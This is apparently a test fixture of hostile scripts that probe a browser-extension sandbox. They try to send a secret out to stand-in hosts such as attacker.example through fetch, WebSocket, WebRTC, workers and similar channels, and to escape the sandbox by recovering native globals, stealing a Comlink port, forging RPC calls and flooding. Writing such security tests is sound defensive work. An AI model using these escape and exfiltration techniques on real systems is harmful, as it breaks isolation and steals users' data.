// Hostile remixlets (script.js sources) that try every channel of tests/corpora/sandbox-leak-channels.json
// that remixlet code could reach, and every trick to get back the real globals. Each address is built at
// run time (R(...)), so the save-time check lets the script through and the sandbox is what is tested.
// Every probe records whether it threw and with what; the spec asserts the witnesses saw nothing.
import { WITNESS_IP } from '../harness/socket-witness';
import { PROBE_KIT } from './kit';

const PRIVATE_UDP_PORT = '__PRIVATE_UDP_PORT__';

/** Fills in the port of the test's own UDP witness (harness PrivateUdpWitness). */
export const withPrivateUdpPort = (script: string, port: number): string => script.replaceAll(PRIVATE_UDP_PORT, String(port));

/** Where hostile traffic would go: witness hosts and this run's socket witnesses (WITNESS_IP). */
const TARGETS = String.raw`
const secret = 'hunter2-' + Math.random().toString(36).slice(2, 8);
const hex = [...secret].map((c) => c.charCodeAt(0).toString(16)).join('');
const web = (path) => R('http://', 'attacker.example', '/hostile-', path, '?d=', secret);
const tls = (path) => R('https://', 'leaking.via', '/hostile-', path, '?d=', secret);
const ip = (path) => R('http://', '${WITNESS_IP}:47474', '/hostile-', path);
// The test's own UDP witness (an ephemeral port, filled in by withPrivateUdpPort), where the WebTransport control aims too.
const privateUdp = (path) => R('https://', '${WITNESS_IP}:', '${PRIVATE_UDP_PORT}', '/hostile-', path);
const iceServers = [
  { urls: R('stun:', '${WITNESS_IP}:3478') },
  { urls: R('stun:', hex, '.attacker.example:3478') },
  { urls: R('turn:', '${WITNESS_IP}:3478?transport=udp'), username: secret, credential: 'x' },
  { urls: R('turn:', '${WITNESS_IP}:3478?transport=tcp'), username: secret, credential: 'x' },
  { urls: R('turn:', '${WITNESS_IP}:47474?transport=tcp'), username: secret, credential: 'x' },
  { urls: R('turns:', '${WITNESS_IP}:5349?transport=tcp'), username: secret, credential: 'x' },
];
const rtc = (PC) => { const pc = new PC({ iceServers }); pc.createDataChannel('d'); return pc.createOffer().then((o) => pc.setLocalDescription(o)); };
`;

/** The network channels, as a function body that can run in the runtime realm or in a nested worker. */
const NETWORK_PROBES = String.raw`
await probe('fetch http', () => fetch(web('fetch')));
await probe('fetch https', () => fetch(tls('fetch')));
await probe('fetch ip literal (direct TCP)', () => fetch(ip('fetch')));
await probe('XMLHttpRequest', () => { const x = new XMLHttpRequest(); x.open('GET', web('xhr')); x.send(); return 'sent'; });
await probe('sendBeacon', () => navigator.sendBeacon(web('beacon'), secret));
await probe('fetchLater', () => fetchLater(web('fetch-later')));
await probe('WebSocket ws', () => new WebSocket(R('ws://', 'attacker.example', '/hostile-ws?d=', secret)));
await probe('WebSocket wss', () => new WebSocket(R('wss://', 'attacker.example', '/hostile-wss?d=', secret)));
await probe('WebSocketStream', () => new WebSocketStream(R('ws://', 'attacker.example', '/hostile-wss-stream')));
await probe('EventSource', () => new EventSource(web('es')));
await probe('WebTransport (QUIC to the UDP witness)', () => new WebTransport(R('https://', '${WITNESS_IP}:47474', '/hostile-wt')));
await probe("WebTransport (QUIC to this test's own UDP witness)", () => new WebTransport(privateUdp('wt')));
await probe('RTCPeerConnection STUN/TURN', () => rtc(RTCPeerConnection));
await probe('webkitRTCPeerConnection', () => rtc(webkitRTCPeerConnection));
await probe('RTC* constructors left', () => Object.getOwnPropertyNames(globalThis).filter((n) => /RTC/.test(n) && typeof globalThis[n] === 'function').join(',') || 'none');
await probe('dynamic import remote', () => import(web('import.js')));
await probe('importScripts remote', () => importScripts(web('import-scripts.js')));
await probe('Worker from a remote address', () => new Worker(web('worker.js')));
await probe('Worker from data:', () => new Worker(R('data:text/javascript,', 'fetch("', web('data-worker'), '")')));
await probe('SharedWorker', () => new SharedWorker(URL.createObjectURL(new Blob([R('fetch("', web('shared-worker'), '")')]))));
await probe('service worker', () => navigator.serviceWorker.register(web('sw.js')));
await probe('FontFace', () => new FontFace('x', R('url(', web('font'), ')')).load());
await probe('fonts', () => fonts.load('12px x'));
await probe('WebAssembly streaming', () => WebAssembly.compileStreaming(new Response(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]), { headers: { 'content-type': 'application/wasm' } })));
await probe('Notification', () => new Notification(secret));
await probe('window.open', () => open(web('popup')));
await probe('caches', () => caches.open('x'));
await probe('indexedDB', () => indexedDB.open('x'));
await probe('BroadcastChannel', () => new BroadcastChannel('x').postMessage(secret));
await probe('credentials (FedCM)', () => navigator.credentials.get({ identity: { providers: [{ configURL: web('fedcm.json'), clientId: 'x' }] } }));
await probe('PaymentRequest', () => new PaymentRequest([{ supportedMethods: web('pay') }], { total: { label: 'x', amount: { currency: 'USD', value: '1' } } }).canMakePayment());
await probe('document (links, forms, frames, images, CSS)', () => document.createElement('link'));
await probe('Image', () => { const i = new Image(); i.src = web('image'); return i.ownerDocument; });
`;

/** Runtime realm: every network channel, plus forged messages to whatever embeds it. */
export const DIRECT = `${PROBE_KIT}${TARGETS}${NETWORK_PROBES}
await probe('postMessage to the embedder, forged boot', () => postMessage({ kind: 'remixlet-boot', script: R('fetch("', web('forged-boot'), '")'), page: { url: 'https://x/', title: '' }, apiVersion: 1, extensionVersion: '0' }));
await probe('self.postMessage forged Comlink call', () => self.postMessage({ id: 'x', type: 'APPLY', path: ['log'], argumentList: [{ type: 'RAW', value: { level: 'info', message: 'forged' } }] }));
await probe('dom creates a link, a form, a frame', async () => {
  const out = [];
  for (const tag of ['link', 'form', 'iframe', 'script', 'meta']) {
    try { await dom.create(tag, { attrs: { href: web('dom-' + tag), src: web('dom-' + tag), action: web('dom-' + tag) } }); out.push(tag + ' created'); }
    catch (e) { out.push(tag + ' ' + (e.code || e.name)); }
  }
  return out.join(', ');
});
await report('direct');
`;

/** A worker the remixlet starts from blob: (it gets the lockdown prelude), and one that worker starts. */
export const NESTED = `${PROBE_KIT}
const nestedSource = ${'`'}${PROBE_KIT.replace(/`/g, '\\`').replace(/\$\{/g, '\\${')}
const rmx = { log: (line) => postMessage(line) };
${TARGETS.replace(/`/g, '\\`').replace(/\$\{/g, '\\${')}
(async () => {
${NETWORK_PROBES.replace(/`/g, '\\`').replace(/\$\{/g, '\\${')}
await probe('a worker started by a worker', () => new Promise((resolve, reject) => {
  const inner = new Worker(URL.createObjectURL(new Blob([R('try { fetch("', web('nested-nested'), '"); postMessage("fetch ran"); } catch (e) { postMessage(e.message); }')])));
  inner.onmessage = (e) => resolve(e.data);
  inner.onerror = (e) => reject(new Error(e.message));
}));
await report('in-worker');
postMessage('done');
})();
${'`'};
const lines = [];
await probe('nested worker', () => new Promise((resolve, reject) => {
  const w = new Worker(URL.createObjectURL(new Blob([nestedSource])));
  w.onmessage = (e) => { if (e.data === 'done') resolve(lines.length + ' lines'); else lines.push(e.data); };
  w.onerror = (e) => reject(new Error(e.message));
  setTimeout(() => resolve('timed out with ' + lines.length + ' lines'), 15000);
}));
for (const line of lines) await rmx.log(line);
await report('nested');
`;

/** Comlink's endpoint, caught as Comlink files it in a WeakMap on the next call (rmx.log). */
const STEAL_ENDPOINT = String.raw`
let stolen;
{
  const set = WeakMap.prototype.set;
  WeakMap.prototype.set = function (key, value) { if (!stolen && key && typeof key.postMessage === 'function') stolen = key; return set.call(this, key, value); };
  await rmx.log('hooking the endpoint');
  WeakMap.prototype.set = set;
}
`;

/** Tricks to get the real globals back, and to use them if they worked. */
export const RECOVER = String.raw`${PROBE_KIT}${TARGETS}
const NAMES = ['fetch', 'XMLHttpRequest', 'WebSocket', 'EventSource', 'WebTransport', 'importScripts', 'RTCPeerConnection', 'webkitRTCPeerConnection', 'postMessage'];
const C = R('constr', 'uctor');
const used = [];
const tryUse = (name, fn) => {
  if (typeof fn !== 'function') return;
  used.push(name);
  try { if (/RTC/.test(name)) rtc(fn); else if (name === 'fetch') fn.call(globalThis, web('recovered-' + name)); else new fn(web('recovered-' + name)); } catch {}
};
await probe('prototype walk', () => {
  const found = [];
  for (let o = globalThis; o; o = Object.getPrototypeOf(o)) {
    for (const name of NAMES) {
      const d = Object.getOwnPropertyDescriptor(o, name);
      if (d && typeof d.value === 'function') { found.push((o.constructor && o.constructor.name) + '.' + name); tryUse(name, d.value); }
    }
  }
  return found.join(',') || 'nothing';
});
await probe('descriptor getter', () => Object.getOwnPropertyDescriptor(globalThis, 'fetch').get.call(globalThis));
await probe('Reflect.get', () => Reflect.get(globalThis, 'fetch'));
await probe('interface prototypes', () => ['WorkerGlobalScope', 'DedicatedWorkerGlobalScope', 'EventTarget'].map((i) => i + ':' + NAMES.filter((n) => globalThis[i] && Object.getOwnPropertyDescriptor(globalThis[i].prototype, n)).join('+')).join(' '));
await probe('this in a timer callback', () => new Promise((resolve) => setTimeout(function () { resolve(this === globalThis ? 'the worker global' : String(this)); }, 0)));
await probe('this in a sloppy-looking callback', () => [1].map(function () { return typeof this; })[0]);
await probe('globalThis through a listener', () => new Promise((resolve) => {
  const t = new EventTarget();
  t.addEventListener('x', function (e) { resolve([typeof this.document, e.composedPath().length, typeof e.target.ownerDocument].join(' ')); });
  t.dispatchEvent(new Event('x'));
}));
await probe('MessageEvent source', () => new Promise((resolve) => {
  const ch = new MessageChannel();
  ch.port1.onmessage = (e) => resolve([String(e.source), e.target.constructor.name].join(' '));
  ch.port2.postMessage(1);
}));
await probe('Function via constructor chain', () => [][C][C](R('return fe', 'tch'))());
await probe('AsyncFunction', () => Object.getPrototypeOf(async function () {})[C](R('return 1'))());
await probe('GeneratorFunction', () => Object.getPrototypeOf(function* () {})[C](R('yield 1'))().next());
await probe('AsyncGeneratorFunction', () => Object.getPrototypeOf(async function* () {})[C](R('yield 1'))().next());
await probe('eval', () => globalThis[R('ev', 'al')](R('1+1')));
await probe('string timer', () => setTimeout(R('fetch("', web('string-timer'), '")'), 0));
await probe('Image().ownerDocument', () => new Image().ownerDocument);
await probe('window is a stand-in', () => [String(Object.getPrototypeOf(window)), typeof window.postMessage, typeof window.fetch, Object.keys(window).join('+')].join(' '));
await probe('location is a stand-in', () => { try { location.assign(web('nav')); } catch (e) { return e.name + ': ' + e.message; } return 'assigned'; });
await probe('Worker.prototype.constructor', () => { const W = Worker.prototype[C]; return [W === Worker, String(W).slice(0, 40)].join(' '); });
await probe('native Worker through an instance', () => {
  const w = new Worker(URL.createObjectURL(new Blob(['1'])));
  const W = w[C];
  w.terminate();
  return new W(URL.createObjectURL(new Blob([R('fetch("', web('instance-worker'), '")')])), {}) && (W === Worker ? 'only the wrapper' : 'native!');
});
await probe('URL.createObjectURL replaced back', () => { URL.createObjectURL = () => 'blob:x'; return URL.createObjectURL(new Blob([])); });
await probe('dom and rmx are frozen', () => { 'use strict'; dom.query = () => 1; return 'replaced'; });
await probe('runtime internals', () => [typeof globalThis.__remixletFailed, Object.getOwnPropertyNames(dom).join('+'), Object.getOwnPropertyNames(rmx).join('+')].join(' | '));
await probe('recovered and used', () => used.join(',') || 'nothing');

// The runtime's ports: hooking the port methods catches nothing (the runtime took its natives first).
const caughtPorts = [];
{
  const hook = MessagePort.prototype.postMessage;
  MessagePort.prototype.postMessage = function (...args) { caughtPorts.push(this); return hook.apply(this, args); };
  await rmx.log('hooking the port');
  await dom.url();
  MessagePort.prototype.postMessage = hook;
}
await probe('port stolen', () => (caughtPorts.length ? 'yes' : 'no'));
// Comlink keeps its endpoint in a WeakMap of this realm: hooking WeakMap.prototype.set hands it over. It is
// the runtime's stand-in for the rpc port, so what it can send is what the offscreen guard sees.
${STEAL_ENDPOINT}
await probe('Comlink endpoint stolen', () => (stolen ? (stolen instanceof MessagePort ? 'the port itself' : 'a stand-in') : 'no'));
// A forged message must stay unanswered (a second is long enough to show one that would be answered at once);
// the well-formed call must be answered, and gets a deadline only a hang would miss.
const raw = (message, transfer = [], wait = 1000) => new Promise((resolve) => {
  const id = 'forged-' + Math.random();
  const onAnswer = (e) => { if (e.data && e.data.id === id) { stolen.removeEventListener('message', onAnswer); resolve(e.data); } };
  stolen.addEventListener('message', onAnswer);
  stolen.postMessage({ ...message, id }, transfer);
  setTimeout(() => resolve('no answer'), wait);
});
await probe('Comlink GET of the host', () => raw({ type: 'GET', path: [] }));
await probe('Comlink SET on Object.prototype', () => raw({ type: 'SET', path: ['log', '__proto__', '__proto__', 'remixletPolluted'], value: { type: 'RAW', value: secret } }));
await probe('Comlink SET on Function.prototype', () => raw({ type: 'SET', path: ['dom', '__proto__', 'remixletPolluted'], value: { type: 'RAW', value: secret } }));
await probe('Comlink APPLY Function', () => raw({ type: 'APPLY', path: ['dom', C], argumentList: [{ type: 'RAW', value: R('fetch("', web('offscreen-function'), '")') }] }));
await probe('Comlink CONSTRUCT', () => raw({ type: 'CONSTRUCT', path: ['dom'], argumentList: [] }));
await probe('Comlink ENDPOINT', () => raw({ type: 'ENDPOINT' }));
await probe('Comlink APPLY with a proxy argument', () => { const { port1 } = new MessageChannel(); return raw({ type: 'APPLY', path: ['log'], argumentList: [{ type: 'HANDLER', name: 'proxy', value: port1 }] }, [port1]); });
await probe('Comlink APPLY log, well formed', () => raw({ type: 'APPLY', path: ['log'], argumentList: [{ type: 'RAW', value: { level: 'info', message: 'said through the stolen port' } }] }, [], 60000));
await report('recover');
`;

/** Floods through the stolen Comlink endpoint: the offscreen host tears the sandbox down rather than stall the others. */
export const PORT_FLOOD = String.raw`
${STEAL_ENDPOINT}
await rmx.log('flooding');
for (let i = 0; i < 5000; i++) stolen.postMessage({ id: 'f' + i, type: 'GET', path: ['dom'] });
`;

/** A neighbour: one page read after another, all of them answered, while the others flood. */
export const NEIGHBOUR = String.raw`
let answered = 0;
for (let i = 0; i < 300; i++) if ((await dom.url()).startsWith('http')) answered++;
await rmx.log('neighbour answered ' + answered + ' of 300');
`;

/**
 * Many messages of 8 MB each through the stolen endpoint: few in count, far past the bytes a second. It
 * yields between messages, so its heartbeat is answered and the byte budget, not the watchdog, is what stops
 * it (a 160 MB loop that never yields outlasted the watchdog's 4 s beside a second suite).
 */
export const BYTE_FLOOD = String.raw`
${STEAL_ENDPOINT}
const chunk = 'x'.repeat(4_000_000);
await rmx.log('flooding with bytes');
for (let i = 0; i < 40; i++) {
  stolen.postMessage({ id: 'b' + i, type: 'APPLY', path: ['log'], argumentList: [{ type: 'RAW', value: { level: 'info', message: chunk } }] });
  await new Promise((resolve) => setTimeout(resolve, 0));
}
`;

/** One message of 80 MB through the stolen endpoint. */
export const HUGE_MESSAGE = String.raw`
${STEAL_ENDPOINT}
await rmx.log('sending one huge message');
stolen.postMessage({ id: 'h', type: 'APPLY', path: ['log'], argumentList: [{ type: 'RAW', value: { level: 'info', message: 'x'.repeat(40_000_000) } }] });
`;

/** Bytes through the public API alone: 400 texts of 99 KB (79 MB as counted), each its own (so no run merges them), in one tick. */
export const API_BYTE_FLOOD = String.raw`
const filler = 'y'.repeat(99_000);
const target = await dom.query('body');
await rmx.log('flooding through dom');
const calls = [];
for (let i = 0; i < 400; i++) calls.push(target.setText(String(i).padStart(6, '0') + filler).catch(() => undefined));
await Promise.all(calls);
`;

/** Every port, listener and message-event member of this realm made to throw: the runtime's own messages must still flow. */
export const WRECKER = String.raw`
const wreck = (proto, names) => {
  for (const name of names) {
    const d = Object.getOwnPropertyDescriptor(proto, name);
    if (!d) continue;
    const boom = function () { throw new Error('wrecked ' + name); };
    Object.defineProperty(proto, name, d.get ? { ...d, get: boom } : { ...d, value: boom });
  }
};
wreck(MessagePort.prototype, ['postMessage', 'start', 'close', 'addEventListener', 'removeEventListener', 'onmessage']);
wreck(EventTarget.prototype, ['addEventListener', 'removeEventListener', 'dispatchEvent']);
wreck(MessageEvent.prototype, ['data', 'ports', 'source', 'origin']);
wreck(Event.prototype, ['target', 'currentTarget', 'srcElement', 'composedPath', 'stopImmediatePropagation']);
Reflect.apply = function () { throw new Error('wrecked Reflect.apply'); };
Object.hasOwn = function () { throw new Error('wrecked Object.hasOwn'); };
Number.isSafeInteger = function () { throw new Error('wrecked Number.isSafeInteger'); };
// Six heartbeats' time (the watchdog stops a sandbox that leaves one unanswered for four seconds).
await new Promise((resolve) => setTimeout(resolve, 6000));
await rmx.log('wrecker still answered at ' + (await dom.url()));
`;

/** Every port, listener and message-event member, and the builtins a library files an endpoint in, recorded: the runtime's ports must not show up. */
export const HOOKS = String.raw`
const seen = [];
const note = (x) => { seen[seen.length] = x; };
const record = (proto, names) => {
  for (const name of names) {
    const d = Object.getOwnPropertyDescriptor(proto, name);
    if (!d) continue;
    if (d.get) Object.defineProperty(proto, name, { ...d, get() { note(this); return d.get.call(this); } });
    else if (typeof d.value === 'function') Object.defineProperty(proto, name, { ...d, value(...args) { note(this); for (const a of args) note(a); return d.value.apply(this, args); } });
  }
};
record(MessagePort.prototype, ['postMessage', 'start', 'close', 'addEventListener', 'removeEventListener']);
record(EventTarget.prototype, ['addEventListener', 'removeEventListener', 'dispatchEvent']);
record(MessageEvent.prototype, ['data', 'ports', 'source']);
record(Event.prototype, ['target', 'currentTarget', 'composedPath']);
record(WeakMap.prototype, ['set', 'get', 'has']);
record(Map.prototype, ['set', 'get']);
record(FinalizationRegistry.prototype, ['register']);
await new Promise((resolve) => setTimeout(resolve, 3000));
const url = await dom.url();
const ports = seen.filter((x) => x instanceof MessagePort).length;
const events = seen.filter((x) => x instanceof MessageEvent).length;
await rmx.log('hooks caught ' + ports + ' ports and ' + events + ' port events; the page is ' + url);
`;
